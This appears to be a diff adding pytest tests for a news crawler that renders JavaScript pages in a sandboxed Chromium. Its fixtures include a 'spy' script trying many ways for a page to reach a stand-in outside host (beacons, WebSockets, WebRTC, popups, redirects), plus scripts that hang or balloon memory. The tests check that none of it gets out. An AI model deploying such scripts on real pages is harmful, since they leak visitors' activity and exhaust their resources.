@@ -1,0 +1,222 @@
+"""Sources whose pages are empty without their scripts, in a real browser that has no network."""
+
+from __future__ import annotations
+
+import importlib.util
+import os
+import shutil
+import signal
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from crawler.fetch.chromium import PROGRAMS
+from crawler.sources import Source
+from tests.crawls import Crawl, crawl, going, rows, sources_file, urls
+from tests.markup import Story, rss, stories
+from tests.server import Body, Computed, Server, Site
+
+pytestmark = [
+    pytest.mark.skipif(
+        importlib.util.find_spec("playwright") is None, reason="the extra browser is not installed"
+    ),
+    pytest.mark.skipif(
+        not any(map(shutil.which, PROGRAMS)), reason="no chromium here: apt install chromium"
+    ),
+]
+
+JAVASCRIPT = "text/javascript"
+# Draws what the site's own API says of the page.
+APP = """
+fetch('/api' + location.pathname).then(answer => answer.text()).then(text => {
+    const read = new DOMParser().parseFromString(text, 'text/html');
+    document.title = read.title;
+    document.head.append(...read.querySelectorAll('script'));
+    document.body.innerHTML = read.body.innerHTML;
+});
+"""
+# Every way out that a page has, to a server that nobody may be led to.
+SPY = """
+const there = 'http://HOST/';
+const tries = [
+    () => fetch(there + 'fetch', {mode: 'no-cors'}),
+    () => navigator.sendBeacon(there + 'beacon', 'x'),
+    () => new WebSocket(there.replace('http', 'ws') + 'socket'),
+    () => new EventSource(there + 'events'),
+    () => window.open(there + 'popup'),
+    () => { document.createElement('img').src = there + 'picture'; },
+    () => { const f = document.createElement('iframe'); f.src = there; document.body.append(f); },
+    () => { const s = document.createElement('script'); s.src = there; document.head.append(s); },
+    () => {
+        const call = new RTCPeerConnection({iceServers: [{urls: 'stun:' + 'HOST'}]});
+        call.createDataChannel('x');
+        call.createOffer().then(offer => call.setLocalDescription(offer));
+    },
+    () => { const s = new XMLHttpRequest(); s.open('POST', there); s.send('x'); },
+    () => {  // who leaves before it is drawn has nothing to show
+        const away = setInterval(() => {
+            if (!document.querySelector('article')) return;
+            clearInterval(away);
+            location.href = there + 'away';
+        }, 50);
+    },
+];
+for (const one of tries) { try { one(); } catch (error) {} }
+"""
+
+
+@dataclass(frozen=True, slots=True)
+class Rendered:
+    """A crawl of the site whose pages are drawn, and what its servers were asked."""
+
+    crawl: Crawl
+    data: Path
+    site: Site
+    outside: Site
+
+
+def shell(*scripts: str) -> Body:
+    tags = "".join(f'<script src="{one}" defer></script>' for one in scripts)
+    return Body(
+        f'<!doctype html><html lang="en"><head><title>Gazette</title>{tags}</head>'
+        '<body><div id="root"></div><img src="/picture.png"></body></html>'
+    )
+
+
+def publish(site: Site, told: list[Story], outside: str) -> None:
+    """The site: stories 1 and 2 are drawn, 3 tries to get out, 4 hangs, 5 grows, 6 is forbidden."""
+    drawn, twin, spying, hanging, growing, forbidden = told
+    site.paths = {
+        "/feed": Body(rss((site.url[:-1] + one.path, one) for one in told), "application/rss+xml"),
+        "/robots.txt": Body("User-agent: *\nDisallow: /private/\n", "text/plain"),
+        "/app.js": Body(APP, JAVASCRIPT),
+        "/spy.js": Body(SPY.replace("HOST", outside), JAVASCRIPT),
+        "/hang.js": Body("while (true) {}", JAVASCRIPT),
+        "/grow.js": Body(
+            "document.body.append(document.createComment('x'.repeat(20e6)))", JAVASCRIPT
+        ),
+        "/private/app.js": Body(APP, JAVASCRIPT),
+        drawn.path: shell("/app.js"),
+        twin.path: shell("/app.js"),
+        spying.path: shell("/spy.js", "/app.js"),
+        hanging.path: shell("/hang.js"),
+        growing.path: shell("/grow.js"),
+        forbidden.path: shell("/private/app.js"),
+    }
+    site.paths |= {f"/api{one.path}": Body(one.html()) for one in told}
+
+
+@pytest.fixture(scope="module")
+def rendered(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Rendered]:
+    folder = tmp_path_factory.mktemp("rendering")
+    with Server() as server, Server(address="127.0.0.2") as other:
+        site, outside = server.site("gazette"), other.site()
+        outside.paths = {"/": Computed(lambda query: Body("found"))}
+        publish(site, stories(6), f"127.0.0.2:{other.port}")
+        source = Source("gazette", site.url, feeds=(f"{site.url}feed",), javascript=True)
+        done = crawl(
+            folder / "data", "-s", sources_file(folder / "sources.toml", source),
+            "-s", "RENDER_TIMEOUT=3", "-s", "ALLOW_PRIVATE_HOSTS=127.0.0.1/32",
+            "-s", "LOG_LEVEL=DEBUG", "-s", "UNHEALTHY_MIN_PAGES=99",
+        )  # fmt: skip
+        yield Rendered(done, folder / "data", site, outside)
+
+
+def test_a_page_that_is_empty_without_its_scripts_is_collected(rendered: Rendered) -> None:
+    bodies = {row["headline"]: row["article_body"] for row in rows(rendered.data)}
+    for story in stories(3):
+        told = story.html().partition("<p>")[2].partition("</p>")[0]
+        assert told in bodies[story.headline], rendered.crawl.output
+    assert len(bodies) == 3
+
+
+def test_a_script_that_pages_share_is_asked_for_once_and_pictures_never(
+    rendered: Rendered,
+) -> None:
+    asked = rendered.site.targets()
+    assert asked.count("/app.js") == 1
+    assert "/picture.png" not in asked
+    assert f"/api{stories(1)[0].path}" in asked
+
+
+def test_a_page_gets_no_further_than_we_do(rendered: Rendered) -> None:
+    assert "/spy.js" in rendered.site.targets()
+    assert rendered.outside.asked == []
+
+
+def test_robots_txt_holds_for_scripts_too(rendered: Rendered) -> None:
+    assert not any(one.startswith("/private/") for one in rendered.site.targets())
+
+
+@pytest.mark.parametrize(
+    ("number", "reason"),
+    [(4, "render/timeout"), (5, "extract/too-large"), (6, "article/no-body")],
+)
+def test_a_page_that_hangs_grows_or_stays_empty_is_refused_and_others_go_on(
+    rendered: Rendered, number: int, reason: str
+) -> None:
+    url = rendered.site.url[:-1] + stories(6)[number - 1].path
+    _, why = urls(rendered.data)[url]
+    assert why == reason
+
+
+def test_no_browser_outlives_a_run_that_is_killed(tmp_path: Path) -> None:
+    with Server() as server:
+        site = server.site("gazette")
+        publish(site, stories(6), "127.0.0.2:9")
+        source = Source("gazette", site.url, feeds=(f"{site.url}feed",), javascript=True)
+        words = ("-s", sources_file(tmp_path / "sources.toml", source))
+        with going(tmp_path / "data", *words) as run:
+            started = browsers_of(run.pid)
+            run.send_signal(signal.SIGKILL)
+        until = time.monotonic() + 20
+        while left := [pid for pid in started if is_alive(pid)]:
+            assert time.monotonic() < until, f"{len(left)} of {len(started)} are still there"
+            time.sleep(0.1)
+
+
+def test_without_a_browser_the_run_says_what_to_do(tmp_path: Path) -> None:
+    source = Source("gazette", "http://gazette.localhost/", javascript=True)
+    words = ("-s", sources_file(tmp_path / "sources.toml", source))
+    done = crawl(tmp_path / "data", *words, "-s", "BROWSER_PATH=/no/such/browser")
+    assert done.exit_code == 2
+    (sentence,) = done.sentences
+    assert "there is no browser (/no/such/browser)" in sentence
+    assert "BROWSER_PATH" in sentence
+
+
+def browsers_of(pid: int) -> list[int]:
+    """The processes of the browser that a run has started, once a page is open in it."""
+    until = time.monotonic() + 60
+    while True:
+        family = [one for one in descendants(pid) if "--type=renderer" in command_of(one)]
+        if family:
+            return [one for one in descendants(pid) if "chrom" in command_of(one)]
+        assert time.monotonic() < until, "no browser was started"
+        time.sleep(0.1)
+
+
+def descendants(pid: int) -> Iterator[int]:
+    for task in Path(f"/proc/{pid}/task").glob("*/children"):
+        for child in map(int, task.read_text().split()):
+            yield child
+            yield from descendants(child)
+
+
+def command_of(pid: int) -> str:
+    try:
+        return Path(f"/proc/{pid}/cmdline").read_text()
+    except OSError:
+        return ""
+
+
+def is_alive(pid: int) -> bool:
+    """Whether a process is there, and no mere entry for a parent that does not look."""
+    try:
+        os.kill(pid, 0)
+        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
+    except OSError:
+        return False
